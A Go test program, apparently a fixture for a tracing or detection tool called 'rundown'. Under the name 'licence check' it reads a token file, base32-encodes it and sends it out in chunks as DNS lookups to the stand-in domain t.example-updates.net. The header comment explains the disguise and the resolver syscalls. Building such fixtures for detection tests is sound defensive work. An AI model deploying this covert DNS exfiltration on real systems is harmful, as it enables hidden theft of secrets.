// licensecheck: a Go "licence check" (test program for rundown, malicious on purpose;
// loopback only, the token is fake). It reads the install token token.txt from its own
// directory and sends it out in DNS names: base32 in chunks of 24 characters, one
// net.LookupHost("<i>.<chunk>.t.example-updates.net") per chunk. With CGO_ENABLED=0 Go's own
// resolver does the lookups: /etc/nsswitch.conf, /etc/resolv.conf, /etc/hosts, then per name
// an A and an AAAA query, each on a UDP socket connect()ed to the name server and sent with
// write(). The sandbox's name server (127.0.0.11) does not answer: each read is refused.
// Prints "idle", sleeps 1 s and exits 0.
package main

import (
	"encoding/base32"
	"fmt"
	"log"
	"net"
	"os"
	"strings"
	"time"
)

func main() {
	log.SetPrefix("licensecheck: ")
	token, err := os.ReadFile("token.txt")
	if err != nil {
		log.Fatal(err)
	}
	enc := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString(token), "="))
	sent := 0
	for i := 0; i*24 < len(enc) && i < 8; i++ {
		end := (i + 1) * 24
		if end > len(enc) {
			end = len(enc)
		}
		name := fmt.Sprintf("%d.%s.t.example-updates.net", i, enc[i*24:end])
		if _, err := net.LookupHost(name); err != nil {
			log.Printf("check %d: %v", i, err)
		}
		sent++
	}
	log.Printf("%d checks sent", sent)
	log.Printf("idle")
	time.Sleep(time.Second)
}
